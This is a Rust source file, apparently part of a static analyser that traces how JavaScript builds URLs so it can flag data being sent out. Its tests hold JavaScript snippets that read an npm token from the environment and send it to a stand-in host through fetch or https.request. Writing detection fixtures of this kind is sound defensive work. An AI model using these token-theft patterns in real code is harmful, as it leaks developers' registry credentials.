//! Parts of addresses: `new URL(text)` is the text that it is made of, and its properties are pieces of that.

use super::{BUDGET, push_piece};
use crate::{
    network::addresses,
    value::{Choice, Object, Property, Text, Value},
};

/// A property of an address that its text tells: `url.href`, `url.origin`, `url.hostname`.
pub(super) fn part_of(url: &Value, name: &str) -> Option<Value> {
    if name == "href" {
        return Some(url.clone());
    }
    // Of several hosts, each.
    if let Value::Concat(pieces) = url
        && pieces.iter().any(|piece| matches!(piece, Value::OneOf(_)))
        && let told = addresses(url)
        && told.len() > 1
    {
        let parts = told.iter().map(|url| Some(Choice { value: part_of_one(&joined(url), name)?, condition: None }));
        return Some(Value::one_of(parts.collect::<Option<Vec<Choice>>>()?, BUDGET.choices));
    }
    part_of_one(url, name)
}

/// A property of an address that has one host, or of which it is not told which.
fn part_of_one(url: &Value, name: &str) -> Option<Value> {
    match name {
        "pathname" | "search" | "hash" => return behind_host(url, name),
        // As node's `url.parse` has it.
        "path" => {
            let pieces = ["pathname", "search"].into_iter().filter_map(|name| behind_host(url, name));
            let pieces: Vec<Value> = pieces.flat_map(|part| part.pieces()).collect();
            return (!pieces.is_empty()).then(|| Value::Concat(pieces.into()));
        }
        _ => {}
    }
    let text = beginning(url)?;
    let (start, end) = authority(&text.text)?;
    let part = match name {
        "origin" => &text.text[..end],
        "host" => host(&text.text[start..end]),
        "hostname" => host(&text.text[start..end]).split(':').next()?,
        _ => return None,
    };
    Some(Value::text_from(part, text))
}

/// A text of which pieces that are known are one where they stand side by side.
fn joined(text: &Value) -> Value {
    let mut pieces = Vec::new();
    text.pieces().into_iter().for_each(|piece| push_piece(&mut pieces, piece));
    match pieces.as_slice() {
        [only] => only.clone(),
        _ => Value::Concat(pieces.into()),
    }
}

/// What stands behind the host of an address: its path, what it asks, or a place in the page.
fn behind_host(url: &Value, name: &str) -> Option<Value> {
    let pieces = match url {
        Value::Concat(pieces) => pieces,
        url => std::slice::from_ref(url),
    };
    let mut part = "pathname";
    let mut found = Vec::new();
    for (index, piece) in pieces.iter().enumerate() {
        let Value::Text(text) = piece else {
            if part == name {
                found.push(piece.clone());
            }
            continue;
        };
        let mut rest = match index {
            0 => &text.text[start_of_path(url)?..],
            _ => text.text.as_str(),
        };
        loop {
            let next = match part {
                "pathname" => rest.find(['?', '#']),
                "search" => rest.find('#'),
                _ => None,
            };
            let (here, behind) = rest.split_at(next.unwrap_or(rest.len()));
            if part == name && !here.is_empty() {
                found.push(Value::text_from(here, text));
            }
            if next.is_none() {
                break;
            }
            part = if behind.starts_with('?') && part == "pathname" { "search" } else { "hash" };
            rest = behind;
        }
    }
    match found.len() {
        // An address always has a path.
        0 => beginning(url).map(|text| Value::text_from(if name == "pathname" { "/" } else { "" }, text)),
        1 => found.pop(),
        _ => Some(Value::Concat(found.into())),
    }
}

/// An address after some of its parts were set: which host it has, or another one altogether.
///
/// What was set beside the host does not change where it leads.
pub(super) fn with_parts_set(url: Value, set: &Object) -> Value {
    if let Some(href) = last_set(set, "href") {
        return href.clone();
    }
    let Some(Value::Text(host)) = last_set(set, "host").or_else(|| last_set(set, "hostname")) else { return url };
    let Some((start, end)) = beginning(&url).and_then(|text| authority(&text.text)) else { return url };
    let moved =
        |text: &Text| Value::text_from(format!("{}{}{}", &text.text[..start], host.text, &text.text[end..]), host);
    match &url {
        Value::Text(text) => moved(text),
        Value::Concat(parts) => {
            let mut parts = parts.to_vec();
            if let Value::Text(text) = &parts[0] {
                parts[0] = moved(text);
            }
            Value::Concat(parts.into())
        }
        _ => url,
    }
}

/// What was set of an address behind its host, in the order in which it stands there.
pub(super) fn parts_behind_host(url: &Value, set: &Object) -> Vec<Value> {
    let set: Vec<&Value> = ["pathname", "search", "hash"].into_iter().filter_map(|name| last_set(set, name)).collect();
    let is_host_open = |text: &&Text| authority(&text.text).is_some_and(|(_, end)| end == text.text.len());
    // An address always has a path.
    let slash = url.as_text().filter(is_host_open).filter(|_| !set.is_empty()).map(|text| Value::text_from("/", text));
    slash.into_iter().chain(set.into_iter().cloned()).collect()
}

/// An address, or also the object that it is where something was set that no address has: a text with properties of its own.
pub(super) fn address_or_object(address: Value, set: Object) -> Value {
    const PARTS: [&str; 10] =
        ["href", "protocol", "username", "password", "host", "hostname", "port", "pathname", "search", "hash"];
    let is_part = |property: &Property| property.name.as_deref().is_some_and(|name| PARTS.contains(&name));
    if set.properties.iter().all(is_part) {
        return address;
    }
    let either = [address, Value::Object(set.into())].map(|value| Choice { value, condition: None });
    Value::one_of(either, BUDGET.choices)
}

/// What a property was set to last.
fn last_set<'o>(set: &'o Object, name: &str) -> Option<&'o Value> {
    let mut properties = set.properties.iter().rev();
    properties.find(|property| property.name.as_deref() == Some(name)).map(|property| &property.value)
}

/// What an address is certain to begin with.
fn beginning(url: &Value) -> Option<&Text> {
    match url {
        Value::Text(text) => Some(text),
        // What comes behind may belong to the host, unless that has ended.
        Value::Concat(parts) => match parts.first()? {
            Value::Text(text) if authority(&text.text).is_some_and(|(_, end)| end < text.text.len()) => Some(text),
            _ => None,
        },
        _ => None,
    }
}

/// Where the path of an address begins: behind its host, or behind its scheme where it has none, as in `mailto:`.
fn start_of_path(url: &Value) -> Option<usize> {
    let text = match url {
        Value::Concat(pieces) => pieces.first()?.as_text()?,
        url => url.as_text()?,
    };
    let scheme = scheme(&text.text)?;
    match text.text[scheme + 1..].starts_with("//") {
        true => beginning(url).and_then(|text| authority(&text.text)).map(|(_, end)| end),
        false => Some(scheme + 1),
    }
}

/// Where the scheme of an address ends.
fn scheme(url: &str) -> Option<usize> {
    let end = url.find(':')?;
    let is_scheme = |name: &str| {
        name.starts_with(|first: char| first.is_ascii_alphabetic())
            && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.'))
    };
    is_scheme(&url[..end]).then_some(end)
}

/// Where the user, host and port of an address stand.
fn authority(url: &str) -> Option<(usize, usize)> {
    let start = scheme(url).filter(|end| url[end + 1..].starts_with("//"))? + 3;
    let end = url[start..].find(['/', '?', '#']).map_or(url.len(), |length| start + length);
    (end > start).then_some((start, end))
}

/// The host and port without the user.
fn host(authority: &str) -> &str {
    authority.rsplit('@').next().unwrap_or(authority)
}

#[cfg(test)]
mod tests {
    use molehunt_model::Behaviour;

    use crate::testing::extracted;

    fn sent_to(code: &str) -> Vec<String> {
        let code = format!("const text = process.env.NPM_TOKEN; {code}");
        let facts = extracted(&code).facts;
        let sent = facts.iter().filter_map(|fact| match &fact.behaviour {
            Behaviour::SendData(sent) => Some(sent.destination.value.clone()),
            _ => None,
        });
        let mut sent: Vec<String> = sent.collect();
        sent.dedup();
        sent
    }

    #[test]
    fn an_address_is_what_its_parts_say() {
        for code in [
            "const u = new URL('https://x.example'); u.search = text; fetch(u)",
            "const u = new URL('https://x.example'); u.search = text; fetch(u.href)",
            "fetch(Object.assign(new URL('https://x.example'), { search: text }))",
            "fetch(Object.assign(new URL('https://api.example'), { host: 'x.example', pathname: text }).href)",
            "fetch(new URL('https://x.example/?' + text).href)",
            "const u = new URL('https://x.example/a'); fetch(u.origin + '/?' + text)",
            "const u = new URL('https://api.example/?' + text); u.hostname = 'x.example'; fetch(u)",
            "const u = new URL('https://api.example/'); u.href = 'https://x.example/?' + text; fetch(u)",
            "require('https').request({ host: 'x.example', path: text }).end()",
            "const { URL: Address } = require('url'); const u = new Address('https://x.example/a'); fetch(u.origin + '/?' + text)",
            "const u = require('url').parse('https://x.example/?' + text); require('https').request({ host: u.hostname, path: u.path }).end()",
            "const u = require('url').parse('https://x.example/?' + text); u.method = 'POST'; require('https').request(u).end()",
            "require('https').request(Object.assign(require('url').parse('https://x.example/?' + text), { method: 'POST' })).end()",
            "const u = new URL((flag ? 'https://x.example' : 'http://x.example') + '/?' + text); require('https').request({ host: u.hostname, path: u.search }).end()",
            "const u = new URL('https://x.example/a'); require('https').request({ host: u.host, path: u.pathname + '?' + text }).end()",
        ] {
            assert_eq!(sent_to(code), ["x.example"], "{code}");
        }
    }

    #[test]
    fn an_address_of_many_pieces_that_are_open_takes_no_time() {
        let pieces: Vec<String> = (0..40).map(|index| format!("(f{index} ? 'a' : g{index} ? 'b' : 'c')")).collect();
        let code =
            format!("const u = new URL('https://' + {}); fetch('https://x.example/' + u.hostname)", pieces.join(" + "));
        assert_eq!(sent_to(&code), ["x.example"]);
    }

    #[test]
    fn what_stands_behind_the_host_is_told_apart() {
        for (part, carries) in [("pathname", false), ("search", true), ("hash", false)] {
            let code = format!(
                "const u = new URL('https://x.example/a?b=' + process.env.NPM_TOKEN + '#c'); fetch('https://x.example/' + u.{part})"
            );
            let facts = extracted(&code).facts;
            let does = |fact: &molehunt_model::Fact| matches!(&fact.behaviour, Behaviour::SendData(sent) if !sent.carries.is_empty());
            assert_eq!(facts.iter().any(does), carries, "{part}");
        }
    }
}
